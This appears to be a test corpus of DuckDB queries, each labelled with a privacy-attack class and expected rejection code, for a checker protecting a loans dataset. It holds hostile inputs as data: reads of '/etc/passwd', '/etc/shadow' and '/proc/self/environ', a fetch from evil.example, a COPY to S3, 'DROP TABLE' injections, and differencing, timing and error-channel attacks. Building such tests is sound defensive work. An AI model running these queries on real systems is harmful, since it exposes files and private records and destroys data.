-- direct_release: kind.limit
SELECT * FROM loans LIMIT 5
-- direct_release: kind.rows_leave
(SELECT amount FROM loans)
-- direct_release: kind.rows_leave
WITH t AS (SELECT * FROM loans) SELECT * FROM t
-- direct_release: kind.window
SELECT l.amount, count(*) OVER () FROM loans l
-- direct_release: kind.aggregate
SELECT first(amount) FROM loans
-- direct_release: kind.aggregate
SELECT any_value(amount) FROM loans
-- direct_release: kind.aggregate
SELECT arg_max(amount, loan_id) FROM loans
-- direct_release: kind.aggregate
SELECT list(amount) FROM loans
-- direct_release: kind.aggregate
SELECT string_agg(industry, ',') FROM loans
-- direct_release: kind.limit
SELECT d.district, (SELECT amount FROM loans l WHERE l.district = d.district LIMIT 1) FROM districts d
-- direct_release: kind.untied_subquery
SELECT d.district, (SELECT max(amount) FROM loans l WHERE l.district = d.district) FROM districts d
-- direct_release: kind.set_mixed
SELECT amount FROM loans UNION ALL SELECT count(*) FROM loans
-- direct_release: sql.not_grouped
SELECT count(*), amount FROM loans
-- direct_release: kind.rows_leave
SELECT * FROM (SELECT count(*) FROM loans) a, loans
-- direct_release: sql.function_closed
SELECT unnest([amount, rate]) FROM loans
-- direct_release: sql.operator
SELECT {'a': amount} FROM loans
-- direct_release: sql.operator
SELECT struct_pack(a := amount) FROM loans
-- direct_release: kind.rows_leave
SELECT COLUMNS(*) FROM loans
-- direct_release: sql.star
SELECT min(COLUMNS(*)) FROM loans
-- direct_release: kind.window
SELECT lead(amount) OVER (ORDER BY loan_id) FROM loans
-- direct_release: kind.window
SELECT DISTINCT ON (district) district, amount FROM loans ORDER BY district, amount DESC
-- direct_release: kind.rows_leave
SELECT case when true then amount end FROM loans
-- direct_release: kind.rows_leave
WITH t AS (SELECT district, count(*) AS n FROM loans GROUP BY district) SELECT t.n, l.amount FROM t JOIN loans l USING (district)
-- direct_release: kind.aggregate
SELECT mode(amount) FROM loans
-- direct_release: kind.aggregate
SELECT histogram(amount) FROM loans
-- direct_release: sql.not_grouped
SELECT approx_quantile(amount, [0.1,0.2]), reservoir_quantile(amount, 0.5, 1) FROM loans
-- privacy_unit: kind.rows_leave
SELECT count(*) FROM loans GROUP BY firm_id
-- privacy_unit: bound.unbounded
SELECT min(firm_id), max(firm_id) FROM loans
-- privacy_unit: kind.rows_leave
SELECT DISTINCT firm_id FROM loans
-- privacy_unit: kind.rows_leave
SELECT firm_id, loan_id, count(*) FROM loans GROUP BY ALL
-- privacy_unit: bound.unbounded
SELECT sum(firm_id) FROM loans
-- privacy_unit: bound.unbounded
SELECT avg(firm_id) FROM loans WHERE firm_id = 42
-- privacy_unit: bound.unbounded
SELECT median(firm_id) FROM loans
-- privacy_unit: sql.function_closed
SELECT hash(firm_id), count(*) FROM loans GROUP BY 1
-- privacy_unit: kind.rows_leave
SELECT f.firm_id, count(l.loan_id) FROM firms f LEFT JOIN loans l USING (firm_id) GROUP BY f.firm_id
-- privacy_unit: name.identifier
SELECT name FROM firms
-- privacy_unit: name.identifier
SELECT count(DISTINCT name) FROM firms
-- privacy_unit: name.identifier
SELECT left(name, 6), count(*) FROM firms GROUP BY 1
-- privacy_unit: name.identifier
SELECT count(*) FROM firms WHERE length(name) > 10
-- privacy_unit: name.column
SELECT __unit FROM loans
-- privacy_unit: name.column
SELECT "__rank" FROM loans
-- privacy_unit: name.column
SELECT count(*) FROM loans WHERE __unit = 5
-- privacy_unit: name.column
SELECT l.rowid, count(*) FROM loans l GROUP BY 1
-- privacy_unit: name.column_near
SELECT count(*) FROM loans WHERE "__first_district"
-- privacy_unit: kind.rows_leave
SELECT t.* FROM (SELECT firm_id FROM firms WHERE employees > 900) t
-- privacy_unit_spoof: name.unit_shadow
SELECT sum(amount) FROM (SELECT firm_id + 0 AS firm_id, amount FROM loans)
-- privacy_unit_spoof: name.unit_shadow
SELECT firm_id, sum(amount) FROM (SELECT loan_id AS firm_id, amount FROM loans) GROUP BY firm_id
-- privacy_unit_spoof: name.unit_shadow
SELECT count(*) FROM (SELECT firm_id AS loan_id, loan_id AS firm_id FROM loans) a JOIN firms f ON a.firm_id = f.firm_id
-- privacy_unit_spoof: kind.untied
SELECT count(*) FROM loans l JOIN firms f ON l.firm_id = f.firm_id + 1
-- privacy_unit_spoof: kind.untied
SELECT count(*) FROM loans l JOIN firms f ON l.firm_id = f.firm_id OR true
-- privacy_unit_spoof: kind.untied
SELECT count(*) FROM loans l JOIN firms f ON (l.firm_id = f.firm_id) IS NOT NULL
-- privacy_unit_spoof: kind.untied
SELECT count(*) FROM loans l JOIN firms f ON l.firm_id::VARCHAR = f.firm_id::VARCHAR
-- privacy_unit_spoof: kind.untied
SELECT count(*) FROM loans l JOIN firms f ON l.firm_id IN (f.firm_id, 42)
-- privacy_unit_spoof: kind.untied
SELECT count(*) FROM loans l, firms f WHERE CASE WHEN l.firm_id = f.firm_id THEN true ELSE l.firm_id = 42 END
-- privacy_unit_spoof: kind.untied_outer
SELECT count(*) FROM loans l LEFT JOIN firms f ON l.district = f.district WHERE l.firm_id = f.firm_id
-- privacy_unit_spoof: kind.set_unit
SELECT count(*) FROM (SELECT firm_id FROM loans UNION ALL SELECT loan_id FROM loans)
-- privacy_unit_spoof: name.unit_shadow
WITH firms AS (SELECT loan_id AS firm_id, amount FROM loans) SELECT count(*) FROM loans JOIN firms USING (firm_id)
-- privacy_unit_spoof: bound.unbounded
SELECT count(*) FROM loans l JOIN (SELECT max(firm_id) AS firm_id FROM firms) m ON l.firm_id = m.firm_id
-- privacy_unit_spoof: kind.grouping_sets_unit
SELECT sum(x) FROM (SELECT firm_id, district, sum(amount) AS x FROM loans GROUP BY CUBE (firm_id, district))
-- privacy_unit_spoof: kind.grouping_sets_unit
SELECT sum(s) FROM (SELECT firm_id, sum(amount) AS s FROM loans GROUP BY ROLLUP(firm_id))
-- group_key_leak: bound.unbounded
SELECT district, count(*) FROM loans GROUP BY district HAVING min(firm_id) = 42
-- group_key_leak: kind.untied_subquery
SELECT d.district FROM districts d WHERE d.district IN (SELECT district FROM loans WHERE firm_id = 42)
-- group_key_leak: kind.untied_subquery
SELECT d.district FROM districts d WHERE EXISTS (SELECT 1 FROM loans l WHERE l.district = d.district)
-- group_key_leak: kind.set_mixed
SELECT district FROM districts INTERSECT SELECT district FROM loans
-- group_key_leak: kind.existence
SELECT d.* FROM districts d SEMI JOIN loans l USING (district)
-- group_key_leak: sql.pivot
PIVOT loans ON firm_id USING count(*)
-- group_key_leak: kind.rows_leave
PIVOT (SELECT district, firm_id FROM loans) ON district USING count(*) GROUP BY firm_id
-- exact_aggregate: kind.window
SELECT max(amount) OVER () FROM loans
-- exact_aggregate: kind.window
SELECT count(*) OVER () FROM loans LIMIT 1
-- exact_aggregate: sql.function_unknown
SELECT bit_xor(loan_id) FROM loans
-- exact_aggregate: kind.aggregate
SELECT product(amount) FROM loans
-- exact_aggregate: sql.function_unknown
SELECT checksum(amount) FROM loans
-- exact_aggregate: kind.aggregate
SELECT kurtosis(amount) FROM loans
-- exact_aggregate: kind.aggregate
SELECT skewness(amount), entropy(industry), mad(amount) FROM loans
-- exact_aggregate: sql.function_near
SELECT fsum(amount) FROM loans
-- exact_aggregate: sql.unsupported
SELECT amount.sum() FROM loans
-- exact_aggregate: kind.aggregate
SELECT list_sum(list(amount)) FROM loans
-- exact_aggregate: kind.aggregate
SELECT bitstring_agg(overdue_days, 0, 365) FROM loans
-- exact_aggregate: sql.row
SELECT map_from_entries(list((loan_id, amount))) FROM loans
-- exact_aggregate: sql.function_unknown
SELECT weighted_avg(amount, rate) FROM loans
-- exact_aggregate: sql.unsupported
SELECT reduce(list(amount), lambda a, b: a + b) FROM loans
-- exact_aggregate: sql.function_unknown
SELECT arbitrary(amount) FROM loans WHERE firm_id = 42
-- exact_aggregate: kind.aggregate
SELECT last(amount ORDER BY loan_id) FROM loans
-- exact_aggregate: kind.aggregate
SELECT max(amount, 3) FROM loans
-- exact_aggregate: kind.aggregate
SELECT arg_min(amount, rate, 3) FROM loans
-- exact_aggregate: kind.aggregate
SELECT array_agg(DISTINCT district) FROM loans
-- sensitivity: kind.untied
SELECT sum(a.amount) FROM loans a, loans b WHERE a.firm_id = b.firm_id OR a.loan_id = b.loan_id
-- sensitivity: bound.unbounded
SELECT sum(l.amount * (SELECT count(*) FROM loans)) FROM loans l
-- sensitivity: bound.unbounded
SELECT sum(amount * n) FROM loans JOIN (SELECT district, count(*) AS n FROM loans GROUP BY district) USING (district)
-- sensitivity: sql.literal
SELECT sum(clamp(amount, 0, (SELECT max(amount) FROM loans))) FROM loans
-- sensitivity: kind.limit
SELECT sum(amount) FROM (SELECT firm_id, amount FROM loans ORDER BY amount DESC LIMIT 10)
-- sensitivity: sql.unsupported
SELECT count(*) FROM loans WHERE amount > ALL (SELECT amount FROM loans WHERE firm_id <> 42)
-- sensitivity: bound.unbounded
SELECT count(*) FROM loans WHERE loan_id IN (SELECT max(loan_id) FROM loans)
-- sensitivity: kind.window
SELECT sum(x) FROM (SELECT firm_id, sum(amount) OVER (ORDER BY loan_id) AS x FROM loans)
-- sensitivity: kind.window
SELECT count(*) FROM (SELECT firm_id, rank() OVER (PARTITION BY district ORDER BY amount) AS r FROM loans) WHERE r = 1
-- sensitivity: kind.window
SELECT avg(p) FROM (SELECT firm_id, percent_rank() OVER (ORDER BY amount) AS p FROM loans)
-- sensitivity: kind.set_unit
SELECT count(*) FROM (SELECT firm_id FROM firms EXCEPT SELECT loan_id FROM loans)
-- sensitivity: kind.untied_subquery
SELECT count(*) FROM loans l WHERE NOT EXISTS (SELECT 1 FROM firms f WHERE f.district = l.district AND f.employees > 900)
-- sensitivity: kind.untied_subquery
SELECT sum((SELECT count(*) FROM firms f WHERE f.district = l.district)) FROM loans l
-- sensitivity: kind.untied_subquery
SELECT count(*) FROM loans l, LATERAL (SELECT * FROM firms f WHERE f.district = l.district) x
-- sensitivity: kind.untied_subquery
SELECT count(*) FROM districts d, LATERAL (SELECT * FROM loans l WHERE l.district = d.district) x
-- sensitivity: kind.untied_subquery
SELECT sum(c) FROM (SELECT d.district, (SELECT count(*) FROM loans l WHERE l.district = d.district) AS c FROM districts d)
-- sensitivity: kind.untied
SELECT count(*) FROM loans l CROSS JOIN firms f WHERE l.firm_id = 42
-- sensitivity: kind.set_unit
SELECT count(*) FROM (SELECT loan_id FROM loans UNION SELECT firm_id FROM firms)
-- sensitivity: kind.join
SELECT sum(amount) FROM loans l ASOF JOIN firms f ON l.firm_id = f.firm_id AND l.amount >= f.employees
-- sensitivity: kind.set_mixed
SELECT count(*) FROM (SELECT firm_id, district FROM loans UNION SELECT 1, district FROM districts)
-- sensitivity: sql.unsupported
SELECT sum(amount) FROM loans TABLESAMPLE bernoulli(10)
-- sensitivity: kind.untied_subquery
SELECT sum(amount) FILTER (WHERE amount > (SELECT l.amount FROM loans l WHERE l.loan_id = 1174)) FROM loans
-- sensitivity: kind.supply
SELECT count(*) FROM range(1000000) n(i) LEFT JOIN loans l ON l.firm_id = 42 WHERE l.firm_id IS NULL
-- sensitivity: kind.supply
SELECT count(*) FROM districts d LEFT JOIN loans l ON d.district = l.district WHERE l.loan_id IS NULL
-- sensitivity: kind.join
SELECT count(*) FROM districts d FULL JOIN loans l USING (district)
-- sensitivity: kind.supply
SELECT count(*) FROM loans l RIGHT JOIN districts d USING (district)
-- sensitivity: bound.unbounded
SELECT sum(1e18 * amount) FROM loans
-- sensitivity: bound.unbounded
SELECT sum(exp(overdue_days)) FROM loans
-- nondeterminism: name.column
SELECT count(*) FROM loans WHERE rowid % 2 = 0
-- nondeterminism: sql.nondeterministic
SELECT count(*) FROM loans WHERE uuid() IS NOT NULL
-- nondeterminism: sql.nondeterministic
SELECT sum(amount * random()) FROM loans
-- nondeterminism: sql.now
SELECT count(*) FROM loans WHERE now() > '2020-01-01'
-- nondeterminism: sql.now
SELECT current_timestamp, count(*) FROM loans
-- nondeterminism: sql.nondeterministic
SELECT count(*) FROM loans WHERE nextval('s') > 0
-- nondeterminism: sql.needs_order
SELECT count(*) FROM (SELECT firm_id, row_number() OVER (PARTITION BY firm_id) AS r FROM loans) WHERE r = 1
-- nondeterminism: sql.needs_order
SELECT count(*) FROM (SELECT firm_id, first(amount) AS a FROM loans GROUP BY firm_id) WHERE a > 5
-- nondeterminism: sql.aggregate_unknown
SELECT count(*) FROM (SELECT firm_id, any_value(amount) AS a FROM loans GROUP BY firm_id) WHERE a > 5
-- nondeterminism: sql.aggregate_unknown
SELECT avg(a) FROM (SELECT firm_id, mode(industry) AS a FROM loans GROUP BY firm_id)
-- nondeterminism: sql.not_grouped
SELECT count(*) FROM (SELECT firm_id, list(amount) AS a FROM loans GROUP BY firm_id) WHERE a[1] > 5
-- nondeterminism: sql.needs_order
SELECT count(*) FROM (SELECT DISTINCT ON (firm_id) firm_id, amount FROM loans)
-- nondeterminism: sql.needs_order
SELECT count(*) FROM (SELECT firm_id, lag(amount) OVER (PARTITION BY firm_id) AS p FROM loans) WHERE p > 0
-- nondeterminism: kind.limit
SELECT count(*) FROM (SELECT firm_id, amount FROM loans LIMIT 100)
-- nondeterminism: sql.unsupported
SELECT count(*) FROM loans USING SAMPLE 10%
-- nondeterminism: sql.nondeterministic
SELECT sum(r) FROM (SELECT firm_id, rank() OVER (PARTITION BY firm_id ORDER BY random()) AS r FROM loans)
-- nondeterminism: sql.function_unknown
SELECT pi(), version(), current_user
-- differencing_budget: kind.untied_subquery
SELECT i, (SELECT sum(amount) FROM loans WHERE loan_id = i) FROM range(10) t(i)
-- differencing_budget: kind.untied_subquery
SELECT i, (SELECT count(*) FROM loans WHERE firm_id = i) FROM range(5) t(i)
-- differencing_budget: kind.untied_subquery
SELECT d.district, (SELECT count(*) FROM loans l WHERE l.district = d.district AND l.firm_id = 42) FROM districts d
-- error_channel: bound.unbounded
SELECT sum((-9223372036854775808)::BIGINT // (CASE WHEN firm_id=42 THEN -1 ELSE 1 END)) FROM loans
-- error_channel: sql.function_near
SELECT sum(strptime(industry, '%Y')) FROM loans
-- error_channel: sql.function_closed
SELECT sum(array_extract([1,2], year)) FROM loans
-- error_channel: sql.literal
SELECT substring(industry, year) FROM loans
-- error_channel: sql.literal
SELECT count(*) FROM (SELECT firm_id, ntile(overdue_days) OVER (PARTITION BY firm_id ORDER BY loan_id) AS q FROM loans)
-- error_channel: sql.unsupported
SELECT count(*) FROM (SELECT firm_id, sum(amount) OVER (PARTITION BY firm_id ORDER BY loan_id ROWS overdue_days PRECEDING) AS q FROM loans)
-- error_channel: sql.literal
SELECT count(*) FROM (SELECT firm_id, lag(amount, overdue_days) OVER (PARTITION BY firm_id ORDER BY loan_id) AS q FROM loans)
-- error_channel: sql.literal
SELECT count(*) FROM loans WHERE district LIKE industry
-- error_channel: sql.arguments
SELECT count(*) FROM loans WHERE district LIKE 'x' ESCAPE 'ab'
-- error_channel: kind.untied_subquery
SELECT count(*) FROM loans WHERE loan_id = (SELECT loan_id FROM loans WHERE firm_id = 42)
-- error_channel: sql.function_closed
SELECT sum(json_extract('{"a":1}', industry)) FROM loans
-- error_channel: sql.function_closed
SELECT factorial(overdue_days) FROM loans
-- error_channel: bound.unbounded
SELECT sum(2 ^ overdue_days) FROM loans
-- error_channel: sql.operator
SELECT sum(1 << overdue_days) FROM loans
-- error_channel: name.column
SELECT nosuch FROM loans
-- error_channel: name.table
SELECT count(*) FROM loan
-- timing_channel: sql.function_closed
SELECT count(*) FROM loans WHERE repeat('a', overdue_days * 100000) = 'b'
-- timing_channel: sql.range
SELECT count(*) FROM generate_series(1, 1000000000000)
-- timing_channel: sql.recursive
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM t WHERE n < 100000000) SELECT count(*) FROM t
-- timing_channel: sql.function_closed
SELECT count(*) FROM loans WHERE levenshtein(district, industry) > 3
-- timing_channel: sql.function_closed
SELECT sum(list_sum(range(loan_id * 10000))) FROM loans
-- timing_channel: sql.function_closed
SELECT count(*) FROM loans a JOIN loans b ON a.firm_id = b.firm_id WHERE md5(a.amount::VARCHAR) < md5(b.amount::VARCHAR)
-- file_network: sql.syntax
SELECT * FROM '/etc/passwd'
-- file_network: sql.syntax
SELECT * FROM 'loans.parquet'
-- file_network: sql.syntax
FROM 'https://evil.example/x.csv'
-- file_network: sql.table_function
SELECT * FROM read_blob('/etc/shadow')
-- file_network: sql.table_function
SELECT * FROM sniff_csv('/etc/passwd')
-- file_network: sql.table_function
SELECT count(*) FROM loans, read_text('/proc/self/environ')
-- file_network: sql.function_near
SELECT getenv('HOME')
-- file_network: name.table
SELECT * FROM "/etc/passwd"
-- file_network: sql.table_function
SELECT * FROM postgres_scan('host=x', 'public', 't')
-- file_network: sql.table_function
SELECT * FROM query('SELECT * FROM firms')
-- file_network: sql.table_function
SELECT * FROM duckdb_settings()
-- file_network: sql.statement
COPY loans TO 's3://x/y'
-- file_network: sql.function_unknown
SELECT write_log('x')
-- catalog_metadata: name.table
SELECT * FROM information_schema.tables
-- catalog_metadata: name.table
SELECT * FROM sqlite_master
-- catalog_metadata: name.table
SELECT * FROM pg_catalog.pg_class
-- catalog_metadata: sql.table_function
SELECT * FROM duckdb_tables()
-- catalog_metadata: sql.statement
SHOW TABLES
-- catalog_metadata: sql.statement
SHOW ALL TABLES
-- catalog_metadata: sql.statement
EXPLAIN SELECT count(*) FROM loans
-- catalog_metadata: sql.statement
EXPLAIN ANALYZE SELECT count(*) FROM loans
-- catalog_metadata: sql.function_unknown
SELECT typeof(amount) FROM loans
-- catalog_metadata: sql.function_near
SELECT alias(amount) FROM loans
-- catalog_metadata: sql.function_near
SELECT stats(amount) FROM loans
-- catalog_metadata: sql.function_unknown
SELECT pg_typeof(amount) FROM loans
-- catalog_metadata: sql.table_function
SELECT count(*) FROM pragma_storage_info('loans')
-- catalog_metadata: name.table
SELECT count(*) FROM small.main.loans
-- catalog_metadata: name.table
SELECT count(*) FROM system.main.loans
-- catalog_metadata: name.table
SELECT count(*) FROM temp.loans
-- statement_kind: sql.statement
INSERT INTO districts VALUES ('x','North')
-- statement_kind: sql.statement
UPDATE loans SET amount = 0
-- statement_kind: sql.statement
CREATE VIEW v AS SELECT * FROM loans
-- statement_kind: sql.statement
CREATE MACRO f(x) AS x
-- statement_kind: sql.several
SELECT count(*) FROM loans; DROP TABLE loans
-- statement_kind: sql.several
SELECT 1; SELECT 2
-- statement_kind: sql.statement
WITH x AS (UPDATE loans SET amount = 0 RETURNING *) SELECT count(*) FROM x
-- statement_kind: sql.unsupported
SELECT * INTO t FROM loans
-- statement_kind: sql.statement
BEGIN
-- statement_kind: sql.statement
SET threads = 1
-- statement_kind: sql.statement
PRAGMA version
-- statement_kind: sql.statement
VACUUM loans
-- statement_kind: sql.statement
TRUNCATE loans
-- statement_kind: sql.statement
GRANT ALL ON loans TO x
-- statement_kind: sql.statement
DEALLOCATE p
-- literals_logs: sql.unsupported
SELECT count(*) FROM loans WHERE district = E'\\x41'
-- literals_logs: sql.unsupported
SELECT count(*) FROM loans WHERE district = 'a' 'b'
-- literals_logs: sql.operator
SELECT count(*) FROM loans WHERE district = U&'\0041'
-- literals_logs: sql.unsupported
SELECT count(*) FROM loans WHERE district = x'41'
-- literals_logs: sql.unsupported
SELECT count(*) AS '笔数' FROM loans
-- literals_logs: name.column
SELECT count(*) FROM loans WHERE district = "Alder"
-- parser_differential: sql.precedence
SELECT count(*) FROM loans WHERE - 2 ** 2 = amount
-- parser_differential: sql.precedence
SELECT count(*) FROM loans WHERE year = 2020 IS TRUE
-- parser_differential: sql.precedence
SELECT count(*) FROM loans WHERE NOT year = 2020 IN (true)
-- parser_differential: sql.precedence
SELECT count(*) FROM loans WHERE 1 < 2 < 3
-- parser_differential: sql.not_boolean
SELECT count(*) FROM loans WHERE year BETWEEN 2018 AND 2020 AND 2021
-- parser_differential: sql.operator
SELECT count(*) FROM loans WHERE amount @ 5
-- parser_differential: sql.unsupported
SELECT count(*) FROM loans WHERE year = 2020 COLLATE NOCASE
-- parser_differential: sql.unsupported
SELECT count(*) FROM loans WHERE district GLOB 'A*'
-- parser_differential: sql.operator
SELECT count(*) FROM loans WHERE district ~ 'A'
-- parser_differential: sql.operator
SELECT count(*) FROM loans WHERE district ~~ 'A%'
-- parser_differential: sql.unsupported
SELECT count(*) FROM loans WHERE year ISNULL
-- parser_differential: bound.unbounded
SELECT sum(a) FROM loans l(a, b)
-- parser_differential: name.unit_shadow
SELECT count(*) FROM loans l(loan_id, firm_id) JOIN firms f USING (firm_id)
-- parser_differential: name.unit_shadow
SELECT sum(amount) FROM loans AS t(loan_id, firm_id)
-- parser_differential: sql.precedence
SELECT count(*) FROM loans WHERE year = - -2020
-- parser_differential: sql.malformed_number
SELECT count(*) FROM loans WHERE amount = 1.5e
-- parser_differential: sql.precedence
SELECT 5 % 3 ^ 2, -5 // 2, 2 ^ 3 ^ 2
-- parser_differential: sql.unsupported
SELECT count(*) FROM loans /* /* nested */ */
-- generator_injection: name.identifier
SELECT count(*) AS n FROM loans AS "x" UNION ALL SELECT name FROM firms
-- generator_injection: sql.type
SELECT count(*)::"INTEGER) FROM loans; DROP TABLE loans --" FROM loans
-- generator_injection: sql.unsupported
SELECT extract("year FROM founded) FROM firms UNION SELECT name FROM firms --" FROM founded) FROM firms
-- generator_injection: sql.unsupported
SELECT date_trunc('month'', founded) FROM firms --', founded), count(*) FROM firms GROUP BY 1
-- generator_injection: sql.function_unknown
SELECT "sum(amount) FROM loans --"(amount) FROM loans
-- generator_injection: sql.window
SELECT sum(amount) OVER "w) FROM loans --" FROM loans
-- generator_injection: sql.syntax
SELECT cast(count(*) AS DECIMAL(18, 2) FROM loans) --)
-- generator_injection: sql.syntax
SELECT count(*) FROM loans WHERE amount > INTERVAL '1' "day) OR true --"
-- generator_injection: sql.unsupported
SELECT count(*) FROM loans ORDER BY 1 COLLATE "x; DROP TABLE loans"
-- malformed_limits: sql.syntax
SELECT count(*) FROM loans WHERE
-- malformed_limits: sql.syntax
SELECT count(*) FROM
-- malformed_limits: sql.brackets
SELECT count(* FROM loans
-- malformed_limits: sql.brackets
SELECT count(*)) FROM loans
-- malformed_limits: sql.unterminated
SELECT count(*) FROM loans WHERE year = 'x
-- malformed_limits: sql.syntax
SELECT FROM loans
-- malformed_limits: sql.unsupported
SELECT count(*) FROM loans LIMIT -1
-- malformed_limits: sql.unsupported
SELECT count(*) FROM loans LIMIT 'x'
-- malformed_limits: sql.malformed_number
SELECT count(*) FROM loans WHERE year = 99999999999999999999999999999999999999999
-- malformed_limits: sql.malformed_number
SELECT count(*) FROM loans WHERE amount > 1e999
-- malformed_limits: name.position
SELECT district, count(*) FROM loans GROUP BY 5
-- malformed_limits: sql.set_columns
SELECT count(*) FROM loans UNION ALL SELECT 1, 2
-- honest: sql.function_near
SELECT every(amount >= 0) FROM loans
-- honest: kind.aggregate
SELECT histogram(year) FROM loans
-- honest: kind.aggregate
SELECT mode(industry) FROM loans
-- honest: kind.aggregate
SELECT approx_top_k(industry, 3) FROM loans
-- honest: sql.function_near
SELECT approx_count_distinct(firm_id) FROM loans
-- honest: sql.unit
SELECT date_trunc('decade', founded) AS d, count(*) FROM firms GROUP BY 1 ORDER BY 1
-- honest: sql.function_near
SELECT width_bucket(esg_score, 0, 100, 10) AS b, count(*) FROM firms GROUP BY b
-- honest: kind.limit
SELECT f.district, sum(x.amount) FROM firms f CROSS JOIN LATERAL (SELECT amount FROM loans l WHERE l.firm_id = f.firm_id ORDER BY amount DESC LIMIT 1) x GROUP BY f.district
-- honest: kind.rows_leave
SELECT firm_id, count(*) FROM loans GROUP BY firm_id
-- honest: sql.not_grouped
SELECT district, count(*) FROM loans QUALIFY row_number() OVER (PARTITION BY firm_id ORDER BY year DESC, loan_id) = 1 GROUP BY district
-- honest: sql.unsupported
SELECT * FROM (SELECT district, year, count(*) AS n FROM loans GROUP BY ALL) PIVOT (sum(n) FOR year IN (2020, 2021)) ORDER BY district
-- honest: kind.rows_leave
SELECT amount * rate / 100 AS interest, FROM loans
-- honest: sql.identifier
SELECT ｄｉｓｔｒｉｃｔ, count(*) FROM loans GROUP BY ｄｉｓｔｒｉｃｔ
-- honest: sql.function_closed
SELECT count(*) FROM loans WHERE regexp_matches(district, '^[A-C]')
-- honest: sql.unsupported
SELECT count(*) FROM loans WHERE district SIMILAR TO 'A.*|B.*'
-- honest: sql.operator
SELECT count(*) FROM loans WHERE starts_with(district, 'A') OR district ^@ 'B'
-- honest: sql.unsupported
SELECT count(*) FROM loans WHERE amount BETWEEN SYMMETRIC 100000 AND 1000
-- honest: sql.function_near
SELECT count(*) FROM firms WHERE age(DATE '2024-01-01', founded) > INTERVAL 10 YEARS
-- honest: sql.function_near
SELECT to_char(founded, 'YYYY') FROM firms
-- honest: kind.rows_leave
SELECT log10(amount) FROM loans
-- honest: sql.unsupported
SELECT count(*) FROM loans WHERE district IN ['Alder', 'Birch']
-- honest: sql.function_closed
SELECT sum(x) FROM (SELECT unnest([1, 2, 3]) AS x)
-- honest: sql.function_closed
SELECT unnest([1,2,3])
-- honest: sql.function_closed
SELECT printf('%d', count(*)) FROM loans
-- honest: sql.function_closed
SELECT format('{:.2f}', avg(amount)) FROM loans
-- honest: kind.aggregate
SELECT list(district ORDER BY n DESC) FROM (SELECT district, count(*) AS n FROM loans GROUP BY district)
-- honest: sql.unsupported
SELECT count(*) FROM loans WHERE amount BETWEEN SYMMETRIC 100000 AND 1000
-- honest: sql.unsupported
SELECT count(*) FROM firms WHERE founded BETWEEN SYMMETRIC DATE '2010-01-01' AND DATE '2000-01-01'
-- honest: sql.unsupported
SELECT count(*) FROM loans WHERE amount NOT BETWEEN SYMMETRIC 1000 AND 2000
-- honest: sql.function_near
SELECT every(amount >= 0) FROM loans
-- honest: sql.function_near
SELECT to_char(founded, 'YYYY'), count(*) FROM firms GROUP BY 1
-- honest: sql.function_closed
SELECT count(*) FROM loans WHERE regexp_matches(district, '^A')
-- honest: kind.aggregate
SELECT list(district ORDER BY n DESC) FROM (SELECT district, count(*) AS n FROM loans GROUP BY district)
-- malformed_limits: sql.unsupported
SELECT COLUMNS('(') FROM (SELECT count(*) AS n FROM loans)
-- timing_channel: sql.unsupported
SELECT COLUMNS('(a|aa)+$') FROM (SELECT count(*) AS aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab FROM loans)
-- timing_channel: sql.unsupported
SELECT COLUMNS('a*a*a*a*a*a*a*a*$') FROM (SELECT count(*) AS aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab FROM loans)
-- malformed_limits: sql.unsupported
SELECT COLUMNS('[z-a]') FROM (SELECT count(*) AS n FROM loans)
